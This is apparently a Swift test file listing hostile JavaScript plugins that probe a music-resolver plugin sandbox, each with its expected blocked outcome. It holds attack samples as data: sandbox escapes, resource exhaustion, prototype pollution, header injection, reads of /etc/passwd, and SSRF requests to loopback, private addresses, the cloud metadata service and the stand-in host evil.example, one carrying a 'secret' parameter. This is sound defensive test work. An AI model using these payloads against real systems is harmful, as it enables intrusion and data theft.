import Testing

/// Plugins that try what a plugin must not be able to do. `docs/threat-model.md` lists them by their names.
struct HostilePlugin: Sendable, CustomTestStringConvertible {
  /// The outcome that its attempt must have.
  enum Expectation: Sendable {
    /// The call fails with an error whose code begins like this.
    case fails(String)
    /// The call fails as a server was refused, which the plugin's log names.
    case refuses(String)
    /// It gives a track with this id, as it got nothing that it should not have.
    case answers(String)
    /// It gives a track with this id, or is ended, as it runs for too long.
    case answersUnlessItIsEnded(String)
    /// The track that it gives has no address that a room would play.
    case givesNoStream
    /// The track that it gives has this title.
    case givesTitle(String)
    /// The track that it gives has this confidence.
    case givesConfidence(Double)
    /// It may fail or not: it harms nobody else.
    case harmless
  }

  let id: String
  /// Its function `resolve`.
  let function: String
  let expectation: Expectation

  /// The deadline of the call: short for those that only the deadline ends.
  var deadline: Duration {
    ["endlessPromises", "neverAnswers", "brokenPromise", "brokenMap"].contains(id) ? .seconds(3) : .seconds(60)
  }

  var testDescription: String { id }

  static let all: [HostilePlugin] = [
    .init(
      id: "endlessLoop",
      function: #"""
        () => { for (;;) {} }
        """#, expectation: .fails("resolver.pluginEnded")),
    .init(
      id: "endlessPromises",
      function: #"""
        async () => { const next = () => Promise.resolve().then(next); await next(); }
        """#, expectation: .fails("resolver.plugin")),
    .init(
      id: "neverAnswers",
      function: #"""
        () => new Promise(() => {})
        """#, expectation: .fails("resolver.pluginTooSlow")),
    .init(
      id: "slowPattern",
      function: #"""
        () => ({ title: 'T', artist: 'A', id: String(/^(a|a?)+$/.test('a'.repeat(60) + 'b')) })
        """#, expectation: .answersUnlessItIsEnded("false")),
    .init(
      id: "largeArray",
      function: #"""
        () => { const all = []; for (;;) all.push(new Array(10000).fill(Math.random())); }
        """#, expectation: .fails("resolver.pluginEnded")),
    .init(
      id: "largeBuffers",
      function: #"""
        () => { const all = []; for (;;) { const one = new Uint8Array(1 << 22); one.fill(7); all.push(one); } }
        """#, expectation: .fails("resolver.pluginEnded")),
    .init(
      id: "deepRecursion",
      function: #"""
        () => { const deeper = (n) => deeper(n + 1) + 1; return deeper(0); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "manyTimers",
      function: #"""
        () => { for (let i = 0; i < 100000; i++) setTimeout(() => {}, 60000); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "consoleFlood",
      function: #"""
        () => { for (let i = 0; i < 20000; i++) console.log('x'.repeat(100)); return { title: 'T', artist: 'A', id: 'quiet' }; }
        """#, expectation: .answers("quiet")),
    .init(
      id: "questionFlood",
      function: #"""
        async () => { const all = []; for (let i = 0; i < 10000; i++) all.push(fetch('https://evil.example/' + i)); await Promise.all(all); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "largeResult",
      function: #"""
        () => ({ title: 'x'.repeat(10 << 20), artist: 'A' })
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "deepResult",
      function: #"""
        () => { let value = 1; for (let i = 0; i < 10000; i++) value = [value]; return value; }
        """#, expectation: .fails("resolver.plugin")),
    .init(
      id: "cyclicResult",
      function: #"""
        () => { const value = {}; value.value = value; return value; }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "throwingGetter",
      function: #"""
        () => ({ get title() { throw new Error('caught'); } })
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "lyingToJSON",
      function: #"""
        () => ({ toJSON: () => ({ title: 'T', artist: 'A', id: 'checked' }) })
        """#, expectation: .answers("checked")),
    .init(
      id: "proxyResult",
      function: #"""
        () => new Proxy({}, { ownKeys: () => Array.from({ length: 1000000 }, (_, i) => 'k' + i), getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: 'x' }) })
        """#, expectation: .fails("resolver.plugin")),
    .init(
      id: "require",
      function: #"""
        () => ({ title: 'T', artist: 'A', id: typeof require })
        """#, expectation: .answers("undefined")),
    .init(
      id: "processObject",
      function: #"""
        () => ({ title: 'T', artist: 'A', id: typeof process + typeof Deno + typeof Bun })
        """#, expectation: .answers("undefinedundefinedundefined")),
    .init(
      id: "constructorEscape",
      function: #"""
        function () { return { title: 'T', artist: 'A', id: String(this.constructor.constructor('return typeof process')()) }; }
        """#, expectation: .answers("undefined")),
    .init(
      id: "dynamicImport",
      function: #"""
        async () => { await import('file:///etc/passwd'); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "browserObjects",
      function: #"""
        () => ({ title: 'T', artist: 'A', id: [typeof XMLHttpRequest, typeof WebSocket, typeof Worker, typeof EventSource].join() })
        """#, expectation: .answers("undefined,undefined,undefined,undefined")),
    .init(
      id: "webAssembly",
      function: #"""
        () => ({ title: 'T', artist: 'A', id: typeof WebAssembly })
        """#, expectation: .answers("undefined")),
    .init(
      id: "shellObject",
      function: #"""
        async () => ({ title: 'T', artist: 'A', id: JSON.stringify(await window.electron.shell.openExternal('file:///bin/sh')) })
        """#, expectation: .answers(#"{"success":true}"#)),
    .init(
      id: "pollutedPrototype",
      function: #"""
        () => { Object.prototype.enabled = true; Object.prototype.title = 'P'; Array.prototype.map = null; return { title: 'T', artist: 'A', id: 'own' }; }
        """#, expectation: .answers("own")),
    .init(
      id: "brokenJSON",
      function: #"""
        () => { JSON.stringify = () => '{"call":1,"result":"forged"}'; JSON.parse = null; return { title: 'T', artist: 'A', id: 'kept' }; }
        """#, expectation: .answers("kept")),
    .init(
      id: "brokenPromise",
      function: #"""
        async () => { Promise.prototype.then = () => {}; return { title: 'T', artist: 'A', id: 'x' }; }
        """#, expectation: .harmless),
    .init(
      id: "brokenMap",
      function: #"""
        async () => { Map.prototype.get = () => undefined; return { title: 'T', artist: 'A', id: 'x' }; }
        """#, expectation: .harmless),
    .init(
      id: "loopback",
      function: #"""
        async (a, t, b, c, p) => { await fetch('http://127.0.0.1:22/'); }
        """#, expectation: .refuses("127.0.0.1")),
    .init(
      id: "localhostName",
      function: #"""
        async () => { await fetch('https://localhost/'); }
        """#, expectation: .refuses("localhost")),
    .init(
      id: "metadataService",
      function: #"""
        async () => { await fetch('http://169.254.169.254/latest/meta-data/'); }
        """#, expectation: .refuses("169.254.169.254")),
    .init(
      id: "privateNetwork",
      function: #"""
        async () => { await fetch('https://192.168.1.1/'); }
        """#, expectation: .refuses("192.168.1.1")),
    .init(
      id: "loopbackV6",
      function: #"""
        async () => { await fetch('https://[::1]/'); }
        """#, expectation: .refuses("[::1]")),
    .init(
      id: "mappedV4",
      function: #"""
        async () => { await fetch('https://[::ffff:127.0.0.1]/'); }
        """#, expectation: .refuses("may not be asked")),
    .init(
      id: "decimalAddress",
      function: #"""
        async () => { await fetch('https://2130706433/'); }
        """#, expectation: .refuses("may not be asked")),
    .init(
      id: "localName",
      function: #"""
        async () => { await fetch('https://printer.local/'); }
        """#, expectation: .refuses("printer.local")),
    .init(
      id: "otherHost",
      function: #"""
        async () => { await fetch('https://evil.example/?secret=1'); }
        """#, expectation: .refuses("evil.example")),
    .init(
      id: "similarHost",
      function: #"""
        async () => { await fetch('https://notgood.example/'); }
        """#, expectation: .refuses("notgood.example")),
    .init(
      id: "userInAddress",
      function: #"""
        async () => { await fetch('https://good.example@evil.example/'); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "backslashAddress",
      function: #"""
        async () => { await fetch('https://evil.example\\@good.example/'); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "fileAddress",
      function: #"""
        async () => { await fetch('file:///etc/passwd'); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "redirectToLoopback",
      function: #"""
        async (a, t, b, config) => { const response = await fetch(config.server + '/redirect'); return { title: 'T', artist: 'A', id: String(response.status) }; }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "hostHeader",
      function: #"""
        async (a, t, b, config) => { await fetch(config.server, { headers: { Host: 'intern.example' } }); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "cookieHeader",
      function: #"""
        async (a, t, b, config) => { await fetch(config.server, { headers: { Cookie: 'a=b' } }); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "headerInjection",
      function: #"""
        async (a, t, b, config) => { await fetch(config.server, { headers: { 'X-A': 'a\r\nHost: b' } }); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "connectMethod",
      function: #"""
        async (a, t, b, config) => { await fetch(config.server, { method: 'CONNECT' }); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "largeBody",
      function: #"""
        async (a, t, b, config) => { await fetch(config.server, { method: 'POST', body: 'x'.repeat(1 << 20) }); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "requestFlood",
      function: #"""
        async (a, t, b, config) => { for (let i = 0; i < 200; i++) await fetch(config.server + '/n' + i); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "largeAnswer",
      function: #"""
        async (a, t, b, config) => { await (await fetch(config.server + '/large')).text(); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "proxyToLoopback",
      function: #"""
        async () => ({ title: 'T', artist: 'A', id: String((await window.electron.proxyFetch('http://127.0.0.1:22/')).success) })
        """#, expectation: .answers("false")),
    .init(
      id: "appleToLoopback",
      function: #"""
        async () => { await window.iTunesRateLimiter.fetch('http://127.0.0.1:22/'); }
        """#, expectation: .refuses("127.0.0.1")),
    .init(
      id: "largeStore",
      function: #"""
        async () => { for (let i = 0; i < 4; i++) await storage.set('k' + i, 'x'.repeat(600 << 10)); }
        """#, expectation: .fails("resolver.pluginFailed")),
    .init(
      id: "othersStore",
      function: #"""
        async () => ({ title: 'T', artist: 'A', id: String(await storage.get('plugin.victim.token')) })
        """#, expectation: .answers("null")),
    .init(
      id: "othersSettings",
      function: #"""
        async () => ({ title: 'T', artist: 'A', id: String(await window.electron.config.get('victim')) })
        """#, expectation: .answers("null")),
    .init(
      id: "fileSource",
      function: #"""
        () => ({ title: 'T', artist: 'A', source: { type: 'direct', url: 'file:///etc/passwd' } })
        """#, expectation: .givesNoStream),
    .init(
      id: "pathSource",
      function: #"""
        () => ({ title: 'T', artist: 'A', source: { type: 'local', path: '/etc/passwd', url: '/etc/passwd' } })
        """#, expectation: .givesNoStream),
    .init(
      id: "controlCharacters",
      function: #"""
        () => ({ title: '\u202Egnos\u001B[2J', artist: 'A' })
        """#, expectation: .givesTitle("gnos [2J")),
    .init(
      id: "falseConfidence",
      function: #"""
        () => ({ title: 'Another', artist: 'B', confidence: 99 })
        """#, expectation: .givesConfidence(0.5)),
  ]
}
